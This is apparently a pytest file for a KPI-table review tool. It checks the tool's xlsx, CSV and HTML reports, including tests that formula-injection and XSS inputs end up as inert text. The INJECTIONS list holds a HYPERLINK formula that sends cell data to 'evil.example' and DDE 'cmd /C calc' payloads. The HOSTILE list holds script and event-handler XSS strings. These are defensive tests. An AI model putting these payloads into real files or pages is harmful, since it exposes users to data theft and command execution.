"""The reports: the xlsx re-opened with openpyxl, the HTML files and their links, the CLI command."""
from __future__ import annotations

import csv
import re
from dataclasses import replace
from pathlib import Path
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from typer.testing import CliRunner

from kpiscan.cellsafe import FORMULA_START, defuse
from kpiscan.errors import InputError
from kpiscan.model import Target
from kpiscan.report import XLSX_NAME, codes, write_report
from kpiscan.report.charts import hbars, stacked_hbars, vbars
from kpiscan.report.facts import score_histogram
from kpiscan.report.html import page_name
from kpiscan.review import Review, rules
from test_review import ind, q, sound_rows, table

_LINK = re.compile(r'(?:href|src)="([^"#][^"]*)"')


class Scan:
    """The two fields of a ScanResult the report reads."""

    def __init__(self, tables, indicators, problems=()):
        self.tables, self.indicators, self.problems = tables, indicators, list(problems)


def constructed_scan() -> Scan:
    """Two tables: a sound one, and one with a vague (flagged) row and a cost above its funding."""
    good = sound_rows()
    weak = [
        ind("产出指标", "数量指标", "申报项目数量", "2个", q("2个", 2, "个"), 60, index=2),
        ind("产出指标", "成本指标", "项目总成本", "≤60万元", q("≤60万元", 600000, "元", "<="), 61, index=2),
        ind("效益指标", "社会效益指标", "群众获得感", "明显提升", Target(raw="明显提升", kind="qualitative", text="明显提升"),
            62, label="vague", index=2),
    ]
    weak[2].reasons = ["vague-direction-word"]
    return Scan([table(index=1), table(index=2, funding=400000)], good + weak)


@pytest.fixture(scope="module")
def constructed(tmp_path_factory) -> tuple[Path, dict]:
    out = tmp_path_factory.mktemp("constructed")
    return out, write_report(constructed_scan(), out)


def test_outputs_written(constructed):
    out, written = constructed
    assert written["xlsx"] == out / XLSX_NAME and written["xlsx"].stat().st_size > 0
    assert written["index"] == out / "index.html"
    assert written["docs"] == [out / "docs" / page_name("t.txt")]
    assert written["xlsx_parts"] == [out / XLSX_NAME] and written["lists"] == []
    assert (out / "static" / "report.css").exists() and (out / "static" / "report.js").exists()


def _indicator_sheet(out):
    wb = load_workbook(out / XLSX_NAME)
    ws = wb["指标 Indicators"]
    header = [c.value for c in ws[1]]
    col = {h.split()[-1]: i for i, h in enumerate(header)}
    return wb, ws, col, list(ws.iter_rows(min_row=2))


def test_xlsx_sheets_header_and_highlights(constructed):
    out, _ = constructed
    wb, ws, col, rows = _indicator_sheet(out)
    assert wb.sheetnames == ["指标 Indicators", "说明 Legend", "发现 Findings", "评分 Scores", "文档 Documents",
                             "问题 Problems"]
    for sheet in wb.worksheets:
        assert sheet.freeze_panes and sheet.freeze_panes.endswith("2")  # the header row frozen
        assert sheet.auto_filter.ref
        assert sheet["A1"].font.bold and sheet["A1"].font.name == "Microsoft YaHei"
        # print set-up: landscape, one page wide, the header row on every page
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth in (None, 1)
        assert sheet.page_setup.fitToHeight == 0
        assert sheet.print_title_rows == "$1:$1"
    # a short location, then 三级指标 and 指标值; those five columns and the header frozen
    header = [h.split()[0] for h in (c.value for c in ws[1])]
    head = [h for h in header[:6] if h != "页"][:5]  # the printed page, where the reader gives one
    assert head == ["文档", "表", "行", "三级指标", "指标值"]
    assert ws.freeze_panes == get_column_letter(header.index("指标值") + 2) + "2"
    assert len(rows) == 9
    flagged = [r for r in rows if r[col["flagged"]].value == "是"]
    assert [r[col["name"]].value for r in flagged] == ["群众获得感"]
    fill = flagged[0][0].fill.start_color.rgb
    assert fill.endswith("F4CCCC")
    assert flagged[0][col["reasons"]].value == "vague-direction-word"
    assert flagged[0][col["reasons"] + 1].value == codes.zh("vague-direction-word")  # Chinese beside the code
    assert "方向词" in flagged[0][col["reasons"] + 1].value
    assert flagged[0][col["label"]].value == "含糊"
    assert flagged[0][col["line"]].value == 62
    assert flagged[0][col["name"]].alignment.wrap_text
    # a row with a finding but no flag: yellow, the finding's code and its Chinese message; a sound row: no fill
    by_name = {(r[col["table"]].value, r[col["name"]].value): r for r in rows}
    cost = by_name[(2, "项目总成本")]
    assert "cost-exceeds-funding" in cost[col["findings"]].value
    assert "超过" in cost[col["findings"] + 1].value
    assert cost[0].fill.start_color.rgb.endswith("FFF2CC")
    assert by_name[(1, "申报项目数量")][0].fill.fill_type is None
    assert ws.column_dimensions[get_column_letter(col["name"] + 1)].width >= 28  # the 三级指标 name column


def test_xlsx_verdict_drop_down_and_note_column(constructed):
    out, _ = constructed
    _, ws, col, rows = _indicator_sheet(out)
    assert "note" in col
    verdict = get_column_letter(col["verdict"] + 1)
    [dv] = ws.data_validations.dataValidation
    assert dv.type == "list" and dv.formula1 == '"同意,修改,退回"'
    assert str(dv.sqref) == f"{verdict}2:{verdict}{len(rows) + 1}"  # every indicator row


def test_xlsx_rows_link_to_their_page_anchor(constructed):
    out, _ = constructed
    _, ws, col, rows = _indicator_sheet(out)
    for r in rows:
        link = r[col["line"]].hyperlink
        assert link is not None, r[col["name"]].value
        page = out / link.target.replace("\\", "/")
        assert page.is_file(), link.target
        assert link.location == f"t{r[col['table']].value}-L{r[col['line']].value}"
        assert f'id="{link.location}"' in page.read_text(encoding="utf-8")


def test_xlsx_legend_has_every_code_in_chinese(constructed):
    out, _ = constructed
    wb = load_workbook(out / XLSX_NAME)
    legend = list(wb["说明 Legend"].iter_rows(min_row=2, values_only=True))
    text = {(kind, code): (zh, crit) for kind, code, zh, crit in legend if code}
    for code, rule in rules().items():  # every finding code, in Chinese, with its rubric criterion
        zh, crit = text[("发现", code)]
        assert crit == rule.criterion and re.search(r"[\u4e00-\u9fff]", zh), code
    for label in ("vague", "malformed"):
        assert ("标签", label) in text
    assert any(row[2].startswith("红色") for row in legend) and any(row[2].startswith("黄色") for row in legend)
    assert wb["说明 Legend"]["C2"].fill.start_color.rgb.endswith("F4CCCC")


def test_every_classifier_reason_code_has_chinese_text():
    """Every reason code docs/classifier.md lists (the classifier's contract) has a row in the lexicon."""
    doc = (Path(__file__).resolve().parents[1] / "docs" / "classifier.md").read_text(encoding="utf-8")
    listed = set(re.findall(r"^\| ([a-z]+(?:-[a-z0-9]+)+|deadline|period|frequency) \|", doc, re.M))
    listed |= {c for line in re.findall(r"^\| (concrete-date[^|]*)\|", doc, re.M) for c in line.replace(" ", "").split("/")}
    assert len(listed) >= 25
    missing = [c for c in sorted(listed) if codes.entry(c) is None]
    assert not missing


def test_xlsx_findings_and_scores(constructed):
    out, written = constructed
    wb = load_workbook(out / XLSX_NAME)
    found = list(wb["发现 Findings"].iter_rows(min_row=2, values_only=True))
    assert {"cost-exceeds-funding", "flagged-share"} <= {r[3] for r in found}
    assert all(r[4] == codes.zh(r[3], "finding") for r in found)
    scores = list(wb["评分 Scores"].iter_rows(min_row=2, values_only=True))
    assert [s[7] for s in scores] == [s.score for s in written["review"].tables]
    assert scores[0][7] == 100.0 and scores[1][7] < 100


def test_xlsx_problems_sheet(tmp_path):
    scan = constructed_scan()
    scan.problems = [InputError("2023/budget.doc", "unsupported file type .doc; skipped"),
                     InputError("b.txt", "table cut off (truncated)", 12)]
    write_report(scan, tmp_path)
    rows = list(load_workbook(tmp_path / XLSX_NAME)["问题 Problems"].iter_rows(min_row=2, values_only=True))
    assert rows == [("2023/budget.doc", None, "unsupported file type .doc; skipped"),
                    ("b.txt", 12, "table cut off (truncated)")]
    assert "unsupported file type .doc" in (tmp_path / "index.html").read_text(encoding="utf-8")


def _docs_scan(n_docs: int) -> Scan:
    """`n_docs` copies of the constructed scan, each under its own document name."""
    tables, inds = [], []
    base = constructed_scan()
    for k in range(n_docs):
        doc = f"d{k}/t.txt"
        tables += [replace(t, doc=doc) for t in base.tables]
        inds += [replace(i, doc=doc) for i in base.indicators]
    return Scan(tables, inds)


def test_xlsx_parts_hold_whole_documents_under_the_row_cap(tmp_path):
    written = write_report(_docs_scan(5), tmp_path, rows_per_part=20)  # 9 rows a document: 2 per part
    parts = written["xlsx_parts"]
    assert [p.name for p in parts] == [XLSX_NAME, "kpiscan-review-2.xlsx", "kpiscan-review-3.xlsx"]
    seen = []
    for p in parts:
        wb = load_workbook(p)
        rows = list(wb["指标 Indicators"].iter_rows(min_row=2, values_only=True))
        assert 0 < len(rows) <= 20
        docs = [r[0] for r in rows]
        assert not set(docs) & set(seen)  # a document lives in one part
        seen += docs
        assert "说明 Legend" in wb.sheetnames
    assert len(seen) == 45
    summary = list(load_workbook(parts[0])["文档 Documents"].iter_rows(min_row=2, values_only=True))
    assert [(r[0], r[-1]) for r in summary] == [(f"d{k}/t.txt", parts[k // 2].name) for k in range(5)]
    # re-run smaller into the same directory: no stale part or page is left
    write_report(_docs_scan(1), tmp_path, rows_per_part=20)
    assert sorted(p.name for p in tmp_path.glob("*.xlsx")) == [XLSX_NAME]
    assert len(list((tmp_path / "docs").glob("*.html"))) == 1


def test_a_document_larger_than_a_part_continues_in_the_next(tmp_path):
    written = write_report(_docs_scan(1), tmp_path, rows_per_part=4)
    sizes = [len(list(load_workbook(p)["指标 Indicators"].iter_rows(min_row=2))) for p in written["xlsx_parts"]]
    assert sizes == [4, 4, 1]


def test_report_groups_once_without_per_table_scans(tmp_path, monkeypatch):
    """The report never scans all findings per table or all documents per document (issue 13)."""
    def refuse(*args, **kwargs):
        raise AssertionError("a per-table scan of every finding/document")

    monkeypatch.setattr(Review, "findings_of", refuse)
    monkeypatch.setattr(Review, "document", refuse)
    written = write_report(_docs_scan(3), tmp_path)
    assert len(written["docs"]) == 3


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_injection_written_as_text(tmp_path):
    """Names, values and projects that start with = + - @ tab CR stay text in the xlsx and the CSV."""
    scan = constructed_scan()
    for i, text in zip(scan.indicators, INJECTIONS):
        i.name, i.value = text, text
    scan.tables[0].project = INJECTIONS[0]
    write_report(scan, tmp_path)
    wb = load_workbook(tmp_path / XLSX_NAME)
    _, ws, col, rows = _indicator_sheet(tmp_path)
    # Excel (and XlsxWriter) store a CR as "_x000D_", which openpyxl leaves as it is
    read = lambda c: c.value.replace("_x000D_", "\r") if isinstance(c.value, str) else c.value  # noqa: E731
    cells = [c for r in rows for c in r if isinstance(read(c), str) and read(c).startswith(FORMULA_START)]
    assert {read(c) for c in cells} >= set(INJECTIONS)
    for c in cells:
        assert c.data_type == "s", (c.coordinate, c.value)  # a string, never a formula
        assert c.quotePrefix, c.coordinate  # Excel's "text" flag: editing it keeps it text
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row), sheet.title

    from kpiscan.write import write_csv
    path = tmp_path / "indicators.csv"
    write_csv([i.to_dict() for i in scan.indicators], path)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        csv_rows = list(csv.DictReader(fh))
    names = [r["name"] for r in csv_rows[:len(INJECTIONS)]]
    assert names == ["'" + t for t in INJECTIONS]
    assert csv_rows[-1]["name"] == scan.indicators[-1].name  # plain text untouched
    assert defuse(-5.0) == -5.0 and defuse("≥95%") == "≥95%"


def test_html_pages_link_to_existing_files(constructed):
    out, _ = constructed
    pages = [out / "index.html", *sorted((out / "docs").glob("*.html"))]
    for page in pages:
        for link in _LINK.findall(page.read_text(encoding="utf-8")):
            assert not link.startswith(("http:", "https:", "//")), f"{page.name} loads {link} from the network"
            path, _, anchor = link.partition("#")
            target = (page.parent / unquote(path)).resolve()
            assert target.exists(), f"{page.name} links to missing {link}"
            if anchor:
                assert f'id="{anchor}"' in target.read_text(encoding="utf-8"), f"{page.name}: no #{anchor}"


def test_document_page_shows_both_halves_findings_and_score(constructed):
    out, written = constructed
    html = (out / "docs" / page_name("t.txt")).read_text(encoding="utf-8")
    assert html.count('class="kpi-table"') == 2
    assert "群众获得感" in html and "vague-direction-word" in html
    assert 'class="ind weak"' in html  # the flagged row is highlighted
    assert "cost-exceeds-funding" in html and "400,000" in html
    assert "实施期" in html and "年度目标" in html
    assert 'id="t2-L62"' in html  # the source line anchors each row
    # every code carries its Chinese text as a tooltip
    assert f'<span class="reason" title="{codes.tooltip("vague-direction-word")}">vague-direction-word</span>' in html
    assert f'title="{codes.tooltip("cost-exceeds-funding", "finding")}">cost-exceeds-funding<' in html
    # the rubric is on the page (no pointer to docs/), the toolbar has the filters
    assert 'id="rubric"' in html and "docs/review.md" not in html and "每张表满分 100" in html
    for control in ('id="q"', 'id="f-label"', 'id="f-level2"', 'id="f-code"', 'id="weak-only"'):
        assert control in html
    assert '<option value="vague"' in html and '<option value="社会效益指标">' in html


def test_each_half_has_its_own_reasons(tmp_path):
    """A two-half row: the annual half's reason sits under the annual half, not the implementation one."""
    impl = ind("效益指标", "社会效益指标", "群众获得感", "≥90%", q("≥90%", 90, "%", ">="), 30, "implementation")
    annual = ind("效益指标", "社会效益指标", "群众获得感", "明显提升", Target(raw="明显提升", kind="qualitative"), 30,
                 "annual", label="vague")
    impl.reasons, annual.reasons = ["checkable-number"], ["vague-praise-word"]
    write_report(Scan([table()], [*sound_rows("implementation"), *sound_rows("annual"), impl, annual]), tmp_path)
    html = (tmp_path / "docs" / page_name("t.txt")).read_text(encoding="utf-8")
    row = re.search(r'<tr id="t1-L30".*?</tr>', html, re.S).group(0)
    cells = re.findall(r'<td class="(name|value|why)[^"]*">(.*?)</td>', row, re.S)
    whys = [text for kind, text in cells if kind == "why"]
    assert len(whys) == 2
    assert "checkable-number" in whys[0] and "vague-praise-word" not in whys[0]
    assert "vague-praise-word" in whys[1] and "checkable-number" not in whys[1]


def test_a_finding_about_one_half_sits_under_that_half(tmp_path):
    """Findings point at record ids: a satisfaction target below 80% in the annual half only is
    shown under the annual half, and its xlsx row is the annual one."""
    rows = [*sound_rows("implementation"), *sound_rows("annual")]
    low = next(i for i in rows if i.period == "annual" and i.name == "企业满意度")
    low.value, low.target = "≥70%", q("≥70%", 70, "%", ">=")
    write_report(Scan([table()], rows), tmp_path)
    html = (tmp_path / "docs" / page_name("t.txt")).read_text(encoding="utf-8")
    row = re.search(r'<tr id="t1-L25".*?</tr>', html, re.S).group(0)
    whys = re.findall(r'<td class="why">(.*?)</td>', row, re.S)
    assert "satisfaction-below-80" not in whys[0] and "satisfaction-below-80" in whys[1]
    _, ws, col, xrows = _indicator_sheet(tmp_path)
    marked = [r[col["half"]].value for r in xrows if "satisfaction-below-80" in (r[col["findings"]].value or "")]
    assert marked == ["年度"]


def test_category_labels_kept_for_filtered_rows(constructed):
    """Rows print 一级/二级 once per group; repeated labels are in the DOM (hidden by CSS) so a filter
    that hides the first row of a group still shows the category of the rows it keeps."""
    out, _ = constructed
    html = (out / "docs" / page_name("t.txt")).read_text(encoding="utf-8")
    assert '<td class="cat rep"><span>产出指标</span></td>' in html
    css = (out / "static" / "report.css").read_text(encoding="utf-8")
    assert "body.filtering td.cat.rep > span { visibility: visible; }" in css
    assert "table.indicators tbody tr.hidden" in css and "position: sticky" in css
    for face in ("Microsoft YaHei", "PingFang SC", "Noto Sans CJK SC", "WenQuanYi Micro Hei"):
        assert face in css


HOSTILE = [
    "<script>alert('x')</script>",
    '" onmouseover="alert(1)',
    "'><img src=x onerror=alert(1)>",
    "</textarea><svg onload=alert(1)>",
]


def test_html_escapes_names_values_and_documents(tmp_path):
    scan = constructed_scan()
    for i, text in zip(scan.indicators, HOSTILE * 3):
        i.name, i.value, i.level2 = text, text, text
        i.reasons = [text]
    scan.tables[1].project = HOSTILE[0]
    scan.tables[1].fields["主管部门"] = HOSTILE[2]
    write_report(scan, tmp_path)
    pages = [tmp_path / "index.html", *(tmp_path / "docs").glob("*.html")]
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert "<script>alert" not in html and "<img src=x" not in html and "<svg onload" not in html
        assert '" onmouseover="alert' not in html
    doc = (tmp_path / "docs" / page_name("t.txt")).read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in doc
    assert 'data-level2="&#34; onmouseover=&#34;alert(1)"' in doc  # an attribute value stays one value


def test_hostile_document_name_gets_a_safe_page(tmp_path):
    names = ['2023/<script>x</script>.txt', "2023_<script>x</script>.txt", "a" * 300 + ".txt"]
    pages = [page_name(n) for n in names]
    assert len(set(pages)) == 3
    assert all(re.fullmatch(r"[\w.\-]+\.html", p) and len(p.encode()) < 200 for p in pages)
    assert page_name("001_abc.txt") == "001_abc.txt.html"


def test_big_document_folds_its_tables(tmp_path):
    rows = [ind("产出指标", "数量指标", f"指标{k}", f"{k}个", q(f"{k}个", k, "个"), 100 + k, index=1 + k // 40)
            for k in range(800)]
    tables = [table(index=n) for n in range(1, 21)]
    written = write_report(Scan(tables, rows), tmp_path)
    html = written["docs"][0].read_text(encoding="utf-8")
    assert html.count('<details class="fold">') == 20  # all closed: the table of contents first
    assert html.count('<tr id="t') == 800


def test_index_paginates_many_documents(tmp_path):
    written = write_report(_docs_scan(5), tmp_path, page_docs=2)
    assert [p.name for p in written["lists"]] == ["page-1.html", "page-2.html", "page-3.html"]
    index = (tmp_path / "index.html").read_text(encoding="utf-8")
    assert index.count('class="doc-link"') == 5  # the lowest-scoring documents (here all, under 20)
    assert index.count('class="list-link"') == 3
    for page in written["lists"]:
        html = page.read_text(encoding="utf-8")
        for link in re.findall(r'class="doc-link" href="([^"]+)"', html):
            assert (page.parent / unquote(link)).resolve().is_file(), link
    assert sum(p.read_text(encoding="utf-8").count('class="doc-link"') for p in written["lists"]) == 5


def test_index_has_charts_and_document_links(constructed):
    out, _ = constructed
    html = (out / "index.html").read_text(encoding="utf-8")
    assert html.count('<svg class="chart"') == 6
    assert f'href="docs/{page_name("t.txt")}"' in html
    assert "明显提升" in html  # the vague-terms chart
    assert 'id="rubric"' in html and "cost-exceeds-funding" in html and "成本超过资金总额" in html


def test_charts_are_plain_svg():
    svg = str(hbars([("满意度", 3), ("a" * 80, 1)], "t"))
    assert svg.startswith("<svg") and svg.count("<rect") == 2 and "…" in svg
    assert str(stacked_hbars([("数量指标", {"vague": 2, "binary": 1})], ["binary", "vague"], "t")).count("<rect") == 4
    assert str(vbars([("0–9", 0), ("90–100", 5)], "t")).count("<rect") == 2
    assert "<script" not in svg


def test_score_histogram_bands():
    bands = dict(score_histogram([0, 55, 89.9, 90, 100]))
    assert bands["0–9"] == 1 and bands["50–59"] == 1 and bands["80–89"] == 1 and bands["90–100"] == 2


def test_report_command_over_corpora(tmp_path, corpora):
    from kpiscan.cli import app

    result = CliRunner().invoke(app, ["report", str(corpora), "--out", str(tmp_path)])
    assert result.exit_code == 0, result.output
    docs = sorted(p.name for p in (tmp_path / "docs").glob("*.html"))
    assert docs == [page_name(p.name) for p in sorted(corpora.glob("*.txt"))]
    wb = load_workbook(tmp_path / XLSX_NAME, read_only=True)
    assert wb["指标 Indicators"].max_row > 1500
